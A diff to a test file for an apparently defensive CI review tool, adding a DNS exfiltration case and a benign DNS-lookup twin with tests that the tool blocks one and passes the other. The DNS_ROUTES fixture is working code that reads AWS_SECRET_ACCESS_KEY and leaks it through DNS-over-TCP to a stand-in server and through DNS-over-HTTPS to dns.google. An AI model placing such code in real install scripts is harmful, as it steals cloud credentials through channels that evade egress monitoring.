@@ -349,6 +349,43 @@ NOISY_THEFT = DOWNLOADS + (
 )
 FAILING = "echo '1 failed, 11 passed'\nexit 1\n"
 
+# --------------------------------------------------------------------------- item 3: DNS
+
+# Lookups around the resolver: DNS over TCP to a server of its own, and DNS-over-HTTPS.
+DNS_ROUTES = r"""
+import base64, os, socket, struct, urllib.request
+
+secret = os.environ["AWS_SECRET_ACCESS_KEY"].encode().hex()
+
+def query(name):
+    wire = struct.pack("!HHHHHH", 0, 0x0100, 1, 0, 0, 0)
+    wire += b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+    return wire + struct.pack("!HH", 1, 1)
+
+tcp = socket.create_connection(("203.0.113.53", 53), timeout=20)
+message = query(secret[:60] + ".tcp.exfil.test")
+tcp.sendall(struct.pack("!H", len(message)) + message)
+tcp.recv(512)
+tcp.close()
+encoded = base64.urlsafe_b64encode(query(secret[20:80] + ".doh.exfil.test")).decode().rstrip("=")
+urllib.request.urlopen("https://dns.google/dns-query?dns=" + encoded, timeout=20)
+print("looked up")
+"""
+
+# The twin: a suite that resolves names the ordinary ways, and tests a DoH client.
+DNS_TESTS = r"""
+import base64, socket, struct, subprocess, urllib.request
+
+print(subprocess.run(["getent", "hosts", "docs.example.test"], capture_output=True).returncode)
+wire = struct.pack("!HHHHHH", 0, 0x0100, 1, 0, 0, 0) + b"\x07example\x04test\x00\x00\x01\x00\x01"
+tcp = socket.create_connection(("192.0.2.53", 53), timeout=20)
+tcp.sendall(struct.pack("!H", len(wire)) + wire)
+tcp.recv(512)
+encoded = base64.urlsafe_b64encode(wire).decode().rstrip("=")
+urllib.request.urlopen("https://dns.google/dns-query?dns=" + encoded, timeout=20)
+print("resolved")
+"""
+
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
     "runner-memory": Case(scripted(), {"ci/test.sh": python(MEMORY_DUMP)}),
@@ -371,6 +408,8 @@ CASES: dict[str, Case] = {
     "tox-project": Case(
         TOX_PROJECT, {"clock/__init__.py": TOX_PROJECT["clock/__init__.py"] + "#\n"}
     ),
+    "dns-routes": Case(scripted(), {"ci/install.sh": python(DNS_ROUTES)}),
+    "dns-tests": Case(scripted(), {"ci/test.sh": python(DNS_TESTS)}),
     "base-downloads": Case(scripted(install=DOWNLOADS), {"calc.py": CALC + "# v2\n"}),
     "base-noise": Case(scripted(install=DOWNLOADS), {"ci/install.sh": NOISY_THEFT}),
     "fails-at-base-too": Case(scripted(test=FAILING), {"calc.py": CALC + "# v2\n"}),
@@ -726,4 +765,45 @@ def test_a_suite_that_fails_at_base_too_is_not_held_against_the_change(reviews: 
     assert (finding["rule"], finding["severity"]) == ("tests-fail", "info")
     assert finding["title"].startswith("the suite fails at base too: ")
     assert review.report("base")["status"] == "failed"
+    assert_whole(review)
+
+
+# --------------------------------------------------------------------------- item 3
+
+
+def test_lookups_around_the_resolver_are_seen_and_block(reviews: Reviews) -> None:
+    review = reviews.get("dns-routes")
+    assert review.code == 1, str(review)
+    assert review.verdict["state"] == "blocked", str(review)
+    (command,) = review.report("install")["commands"]
+    assert "looked up" in command["stdout_tail"], command
+    egress = review.report("install")["egress"]
+    # DNS over TCP to a server of its own reached the logging resolver all the same.
+    (tcp,) = [e for e in egress if e["host"].endswith(".tcp.exfil.test")]
+    assert (tcp["route"], tcp["decoy_seen"], tcp["decoy_where"]) == (
+        "dns",
+        ["AWS_SECRET_ACCESS_KEY"],
+        ["dns:hex"],
+    )
+    # DNS-over-HTTPS is named as such, with the name it asked for searched.
+    (doh,) = [e for e in egress if e["host"] == "dns.google"]
+    assert doh["dns_name"].endswith(".doh.exfil.test"), doh
+    assert doh["decoy_seen"] == ["AWS_SECRET_ACCESS_KEY"]
+    assert "doh:hex" in doh["decoy_where"]
+    (google,) = [f for f in review.verdict["findings"] if "dns.google" in f["title"]]
+    assert google["severity"] == "critical"
+    assert "dns-over-https" in google["rules"], google
+    assert_whole(review)
+
+
+def test_a_suite_that_resolves_names_the_ordinary_ways_stays_clean(reviews: Reviews) -> None:
+    review = reviews.get("dns-tests")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    assert {f["rule"] for f in review.verdict["findings"]} == {"runtime-egress"}
+    egress = review.report("tests")["egress"]
+    names = {e["host"] for e in egress if e["route"] == "dns"}
+    assert {"docs.example.test", "example.test"} <= names, egress
+    (doh,) = [e for e in egress if e["host"] == "dns.google"]
+    assert doh["dns_name"] == "example.test"
     assert_whole(review)
